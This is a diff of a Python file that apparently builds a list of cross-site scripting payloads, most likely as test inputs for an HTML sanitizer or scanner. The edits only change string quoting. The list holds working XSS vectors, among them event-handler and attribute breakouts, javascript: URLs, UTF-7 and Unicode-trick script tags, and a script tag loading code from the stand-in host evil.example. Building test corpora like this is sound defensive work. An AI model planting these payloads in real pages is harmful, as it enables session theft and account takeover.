@@ -135,7 +135,7 @@ ELEMENTS = [
     f"<a href='javascript:{RUN}' autofocus>x</a>",
     f"<a href=x onclick={RUN}>x</a>",
     f"<a href='x' ping='javascript:{RUN}'>x</a>",
-    f"<a href=\"x\" title='\" onmouseover={RUN} x='>x</a>",
+    f'<a href="x" title=\'" onmouseover={RUN} x=\'>x</a>',
     f"<blockquote cite='javascript:{RUN}'>x</blockquote>",
     f"<figure data-image='1\" onload={RUN} x=\"'><figcaption>x</figcaption></figure>",
     f"<div data-rumour='1\"><img src=x onerror={RUN}>'></div>",
@@ -152,14 +152,14 @@ ELEMENTS = [
     f"{{% debug %}}{{{{ {RUN} }}}}",
     f"');{RUN};//",
     f'");{RUN};//',
-    f"\\\");{RUN};//",
+    f'\\");{RUN};//',
     f"\u2028{RUN}\u2028",
     f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
     f"\u202e<script>{RUN}</script>",
     f"\ufeff<script>{RUN}</script>",
     f"<script>{RUN}",
     f"<script>{RUN}<!--",
-    f"<script src='//evil.example/x.js'></script>",
+    "<script src='//evil.example/x.js'></script>",
 ]
 ATTRIBUTES = [f"<{tag} {event}={RUN} src=x>x</{tag}>" for tag in TAGS[:6] for event in EVENTS]
 LINKS = [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
